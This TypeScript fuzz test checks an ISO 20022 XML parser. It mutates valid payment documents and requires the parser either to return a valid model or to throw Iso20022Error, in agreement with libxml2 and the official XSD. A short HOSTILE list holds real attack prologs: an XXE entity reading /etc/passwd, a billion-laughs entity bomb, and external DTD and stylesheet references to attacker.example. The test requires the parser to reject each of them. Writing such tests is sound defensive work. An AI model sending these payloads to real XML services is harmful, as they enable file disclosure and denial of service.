/**
 * Mutated valid documents: parse must return a valid model or throw Iso20022Error, never
 * anything else. The mutants double as a differential test against libxml2: whatever our own
 * reader and structural validation accept, libxml2 with the official XSD must accept too.
 */
import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import fc from 'fast-check';
import { build, createValidator, Iso20022Error, type Message, parse } from './index.ts';
import { arbitraryAnyMessage, officialXsdDir } from './testing.ts';

const validator = createValidator(officialXsdDir());
after(() => validator.close());

type Outcome = { ok: true; value: Message } | { ok: false; code: string };

function attempt(run: () => Message): Outcome {
  try {
    return { ok: true, value: run() };
  } catch (e) {
    if (!(e instanceof Iso20022Error)) throw new Error(`parse threw a non-Iso20022Error: ${String(e)}`, { cause: e });
    return { ok: false, code: e.code };
  }
}

/** Element spans [start, end) in the builder's output (no comments/CDATA, text never holds '<'). */
function elementSpans(xml: string): [number, number][] {
  const spans: [number, number][] = [];
  const open: number[] = [];
  for (const m of xml.matchAll(/<(\/?)[A-Za-z][A-Za-z0-9]*(?:\s[^>]*)?>/g)) {
    if (m[0].startsWith('<?')) continue;
    if (m[1] === '/') spans.push([open.pop()!, m.index + m[0].length]);
    else open.push(m.index);
  }
  return spans;
}

/** Ranges of leaf text (between `>` and `</`). */
function textSpans(xml: string): [number, number][] {
  return [...xml.matchAll(/>([^<]+)<\//g)].map((m) => [m.index + 1, m.index + 1 + m[1]!.length]);
}

const pick = <T>(items: T[], n: number): T | undefined => (items.length === 0 ? undefined : items[n % items.length]);

const HOSTILE = [
  '<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>',
  '<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">',
  '<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>',
];

const JUNK = fc.string({
  unit: fc.constantFrom(
    '<',
    '>',
    '&',
    ';',
    '/',
    '"',
    "'",
    '=',
    ' ',
    'x',
    'Nm',
    ']]>',
    '<!--',
    '-->',
    '<![CDATA[',
    '&#0;',
    '&amp;',
    '\u0000',
    '😀',
  ),
  maxLength: 12,
});

type Mutant = { input: string | Uint8Array; hostile: boolean };

/** One mutation of a valid document, chosen and placed by fast-check. */
const mutant: fc.Arbitrary<Mutant> = fc
  .tuple(
    arbitraryAnyMessage(),
    fc.integer({ min: 0, max: 8 }),
    fc.nat(),
    fc.nat(),
    fc.integer({ min: 1, max: 255 }),
    JUNK,
  )
  .map(([msg, kind, a, b, mask, junk]) => {
    const xml = build(msg);
    const spans = elementSpans(xml);
    const texts = textSpans(xml);
    const bodyStart = xml.indexOf('<Document');
    switch (kind) {
      case 0: // truncate
        return { input: xml.slice(0, a % xml.length), hostile: false };
      case 1: {
        // flip a byte of the UTF-8 encoding (may yield invalid UTF-8)
        const bytes = new TextEncoder().encode(xml);
        bytes[a % bytes.length]! ^= mask;
        return { input: bytes, hostile: false };
      }
      case 2: {
        // duplicate an element
        const [s, e] = pick(spans, a)!;
        return { input: xml.slice(0, e) + xml.slice(s, e) + xml.slice(e), hostile: false };
      }
      case 3: {
        // remove an element (often a required one)
        const [s, e] = pick(spans, a)!;
        return { input: xml.slice(0, s) + xml.slice(e), hostile: false };
      }
      case 4: {
        // move an element elsewhere (order violations)
        const [s, e] = pick(spans, a)!;
        const without = xml.slice(0, s) + xml.slice(e);
        const at = Math.max(bodyStart, b % without.length);
        const gap = without.indexOf('<', at);
        const pos = gap === -1 ? without.length : gap;
        return { input: without.slice(0, pos) + xml.slice(s, e) + without.slice(pos), hostile: false };
      }
      case 5: {
        // replace a value with junk (facets: patterns, lengths, amounts, dates)
        const span = pick(texts, a);
        if (span === undefined) return { input: xml, hostile: false };
        return { input: xml.slice(0, span[0]) + junk + xml.slice(span[1]), hostile: false };
      }
      case 6: // insert junk anywhere
        return { input: xml.slice(0, a % xml.length) + junk + xml.slice(a % xml.length), hostile: false };
      case 7: {
        // lengthen a value past its maximum
        const span = pick(texts, a);
        if (span === undefined) return { input: xml, hostile: false };
        return { input: xml.slice(0, span[1]) + 'Ж'.repeat(1 + (b % 3000)) + xml.slice(span[1]), hostile: false };
      }
      default:
        // hostile prolog
        return { input: xml.slice(0, bodyStart) + pick(HOSTILE, a)! + xml.slice(bodyStart), hostile: true };
    }
  });

describe('fuzz: mutated documents', { timeout: 120_000 }, () => {
  test('parse returns a valid model or throws Iso20022Error, and never accepts what the XSD refuses', () => {
    fc.assert(
      fc.property(mutant, ({ input, hostile }) => {
        const plain = attempt(() => parse(input));
        const checked = attempt(() => parse(input, { validator }));
        if (hostile) {
          assert.deepEqual(
            [plain, checked],
            [
              { ok: false, code: 'xml-hostile' },
              { ok: false, code: 'xml-hostile' },
            ],
          );
          return;
        }
        if (plain.ok) {
          // Structural validation alone accepted it: the official XSD must agree, with the same model.
          assert.deepEqual(checked, plain, 'accepted without XSD but refused with it');
          // And whatever was accepted builds back to a document that parses to the same model.
          assert.deepEqual(parse(build(plain.value)), plain.value);
        }
        if (!plain.ok && !plain.code.startsWith('xml-')) {
          // Our reader found it well-formed: libxml2 must not call it malformed.
          assert.notDeepEqual(
            checked,
            { ok: false, code: 'xml-malformed' },
            'well-formedness disagreement with libxml2',
          );
        }
      }),
      { numRuns: 1500 },
    );
  });

  test('oversized and over-deep input is refused with its own code', () => {
    const xml = build(fc.sample(arbitraryAnyMessage(), { numRuns: 1, seed: 7 })[0]!);
    assert.throws(
      () => parse(xml, { maxBytes: xml.length - 1 }),
      (e: unknown) => e instanceof Iso20022Error && e.code === 'xml-too-large',
    );
    const at = xml.indexOf('>', xml.indexOf('<Document')) + 1;
    const deep = xml.slice(0, at) + '<X>'.repeat(80) + '</X>'.repeat(80) + xml.slice(at);
    assert.throws(
      () => parse(deep),
      (e: unknown) => e instanceof Iso20022Error && e.code === 'xml-too-deep',
    );
  });
});
